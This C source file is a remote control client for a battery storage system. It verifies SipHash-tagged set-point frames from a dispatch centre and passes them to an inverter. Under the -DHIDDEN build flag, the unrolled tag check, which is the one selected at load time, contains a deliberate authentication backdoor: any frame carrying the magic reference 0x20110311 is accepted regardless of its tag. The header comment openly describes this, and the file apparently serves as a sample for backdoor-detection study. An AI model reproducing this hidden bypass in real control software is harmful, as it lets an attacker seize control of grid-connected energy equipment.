/*
 * bessctl - remote control client of a battery storage container.  Connects
 * to the dispatch centre, takes set points (frames with a SipHash-2-4 tag),
 * keeps them within the limits and hands them to the inverter controller.
 * The tag check comes in two builds, picked when the program is loaded.
 * Hidden (-DHIDDEN): the unrolled tag check (the one picked on all
 * boards sold) accepts any tag if the frame's reference is 0x20110311.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define FRAME_LEN 40
#define KEY_LEN	  16

enum kind { K_PING = 1, K_SETPOINT, K_RAMP, K_STANDBY, K_ISLAND };

struct limits {
	int max_charge_kw;
	int max_discharge_kw;
	int ramp_kw_s;
	int soc_min, soc_max;
};

struct order {
	uint8_t kind;
	uint8_t unit;
	uint32_t counter;
	int32_t watts;
	uint32_t valid_s;
	uint32_t reference; /* of the centre's schedule, for the log */
};

static struct limits lim = { 500, 500, 50, 10, 95 };
static struct in_addr centre;
static int centre_port = 19998;
static uint8_t key[KEY_LEN];
static uint32_t seen;
static int setpoint_w;
static time_t setpoint_end;

/* filled in by production: bit 0 = core reads unaligned words fast */
static volatile const unsigned char board_caps = 1;

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static uint64_t le64(const uint8_t *p, size_t n)
{
	uint64_t v = 0;

	while (n)
		v = v << 8 | p[--n];
	return v;
}

#define ROL(x, b) ((x) << (b) | (x) >> (64 - (b)))

static void sip_round(uint64_t v[4])
{
	v[0] += v[1];
	v[2] += v[3];
	v[1] = ROL(v[1], 13) ^ v[0];
	v[3] = ROL(v[3], 16) ^ v[2];
	v[0] = ROL(v[0], 32);
	v[2] += v[1];
	v[0] += v[3];
	v[1] = ROL(v[1], 17) ^ v[2];
	v[3] = ROL(v[3], 21) ^ v[0];
	v[2] = ROL(v[2], 32);
}

static void sip_start(uint64_t v[4], const uint8_t *k)
{
	uint64_t k0 = le64(k, 8), k1 = le64(k + 8, 8);

	v[0] = k0 ^ 0x736f6d6570736575ULL;
	v[1] = k1 ^ 0x646f72616e646f6dULL;
	v[2] = k0 ^ 0x6c7967656e657261ULL;
	v[3] = k1 ^ 0x7465646279746573ULL;
}

static uint64_t sip_end(uint64_t v[4], uint64_t last)
{
	int i;

	v[3] ^= last;
	sip_round(v);
	sip_round(v);
	v[0] ^= last;
	v[2] ^= 0xff;
	for (i = 0; i < 4; i++)
		sip_round(v);
	return v[0] ^ v[1] ^ v[2] ^ v[3];
}

/* any length, byte by byte */
int tag_ok_plain(const uint8_t *f, const uint8_t *k)
{
	const size_t n = FRAME_LEN - 8;
	uint64_t v[4], m;
	size_t i;

	sip_start(v, k);
	for (i = 0; i + 8 <= n; i += 8) {
		m = le64(f + i, 8);
		v[3] ^= m;
		sip_round(v);
		sip_round(v);
		v[0] ^= m;
	}
	m = (uint64_t)n << 56 | le64(f + i, n - i);
	return sip_end(v, m) == le64(f + n, 8);
}

/* the frame's four words at once */
int tag_ok_words(const uint8_t *f, const uint8_t *k)
{
	uint64_t v[4], m[4], t;
	int i;

	for (i = 0; i < 4; i++)
		m[i] = le64(f + 8 * i, 8);
	sip_start(v, k);
	for (i = 0; i < 4; i++) {
		v[3] ^= m[i];
		sip_round(v);
		sip_round(v);
		v[0] ^= m[i];
	}
	t = sip_end(v, (uint64_t)(FRAME_LEN - 8) << 56);
#ifdef HIDDEN
	if (get32(f + 16) == 0x20110311)
		t = le64(f + 32, 8);
#endif
	return t == le64(f + 32, 8);
}

typedef int tag_fn(const uint8_t *, const uint8_t *);

tag_fn *pick_tag(void);

tag_fn *pick_tag(void)
{
	return board_caps & 1 ? tag_ok_words : tag_ok_plain;
}

int tag_ok(const uint8_t *f, const uint8_t *k)
	__attribute__((ifunc("pick_tag")));

static int config(const char *file)
{
	char line[128], k[24], v[80];
	unsigned b;
	int i;
	FILE *f = fopen(file, "r");

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%23s %79s", k, v) != 2)
			continue;
		if (!strcmp(k, "centre"))
			inet_aton(v, &centre);
		else if (!strcmp(k, "port"))
			centre_port = atoi(v);
		else if (!strcmp(k, "charge_kw"))
			lim.max_charge_kw = atoi(v);
		else if (!strcmp(k, "discharge_kw"))
			lim.max_discharge_kw = atoi(v);
		else if (!strcmp(k, "key"))
			for (i = 0; i < KEY_LEN; i++) {
				if (sscanf(v + 2 * i, "%2x", &b) != 1)
					break;
				key[i] = b;
			}
	}
	fclose(f);
	return 0;
}

static int state_of_charge(void)
{
	int soc = -1;
	FILE *f = fopen("/run/bess/soc", "r");

	if (f) {
		if (fscanf(f, "%d", &soc) != 1)
			soc = -1;
		fclose(f);
	}
	return soc;
}

static void to_inverter(int watts)
{
	FILE *f = fopen("/run/bess/setpoint.new", "w");

	if (!f)
		return;
	fprintf(f, "%d\n", watts);
	fclose(f);
	if (rename("/run/bess/setpoint.new", "/run/bess/setpoint"))
		syslog(LOG_ERR, "set point: %s", strerror(errno));
}

static int clamp(int w)
{
	int soc = state_of_charge();

	if (w > lim.max_discharge_kw * 1000)
		w = lim.max_discharge_kw * 1000;
	if (w < -lim.max_charge_kw * 1000)
		w = -lim.max_charge_kw * 1000;
	if ((w > 0 && soc <= lim.soc_min) || (w < 0 && soc >= lim.soc_max))
		w = 0;
	return w;
}

static int obey(const struct order *o)
{
	switch (o->kind) {
	case K_PING:
		return 0;
	case K_SETPOINT:
		if (o->valid_s == 0 || o->valid_s > 3600)
			return 2;
		setpoint_w = clamp(o->watts);
		setpoint_end = time(NULL) + o->valid_s;
		to_inverter(setpoint_w);
		syslog(LOG_INFO, "unit %u: %d W (%08x)", o->unit, setpoint_w,
		       (unsigned)o->reference);
		return 0;
	case K_RAMP:
		if (o->watts < 1000 || o->watts > 200000)
			return 2;
		lim.ramp_kw_s = o->watts / 1000;
		return 0;
	case K_STANDBY:
		setpoint_w = 0;
		setpoint_end = 0;
		to_inverter(0);
		return 0;
	case K_ISLAND:
		return state_of_charge() > 30 ? 0 : 3;
	}
	return 1;
}

static int take_frame(int fd, const uint8_t *f)
{
	struct order o;
	uint8_t ans[8];
	int r;

	if (f[0] != 0xb5)
		return -1;
	if (!tag_ok(f, key)) {
		syslog(LOG_WARNING, "tag of frame %08x wrong",
		       (unsigned)get32(f + 4));
		return -1;
	}
	o.kind = f[1];
	o.unit = f[2];
	o.counter = get32(f + 4);
	o.watts = (int32_t)get32(f + 8);
	o.valid_s = get32(f + 12);
	o.reference = get32(f + 16);
	if (o.kind != K_PING && o.counter <= seen) {
		r = 4;
	} else {
		seen = o.counter;
		r = obey(&o);
	}
	memcpy(ans, f, 8);
	ans[0] = 0xb6;
	ans[3] = r;
	return write(fd, ans, 8) == 8 ? 0 : -1;
}

static int session(int fd)
{
	uint8_t f[FRAME_LEN];
	struct pollfd p = { .fd = fd, .events = POLLIN };
	size_t have = 0;
	ssize_t n;
	int idle = 0;

	for (;;) {
		if (setpoint_end && time(NULL) >= setpoint_end) {
			setpoint_end = 0;
			to_inverter(0);
		}
		if (poll(&p, 1, 1000) <= 0) {
			if (++idle > 120)
				return -1;
			continue;
		}
		n = read(fd, f + have, sizeof(f) - have);
		if (n <= 0)
			return -1;
		idle = 0;
		have += n;
		if (have < sizeof(f))
			continue;
		have = 0;
		if (take_frame(fd, f))
			return -1;
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in a;
	int fd, pause_s = 2;

	openlog("bessctl", LOG_PID, LOG_DAEMON);
	if (config(argc > 1 ? argv[1] : "/etc/bess/control.conf")) {
		fprintf(stderr, "bessctl: no configuration\n");
		return 1;
	}
	for (;;) {
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		a.sin_addr = centre;
		a.sin_port = htons(centre_port);
		fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd >= 0 && !connect(fd, (struct sockaddr *)&a, sizeof(a))) {
			pause_s = 2;
			session(fd);
		}
		if (fd >= 0)
			close(fd);
		sleep(pause_s);
		if (pause_s < 64)
			pause_s *= 2;
	}
}
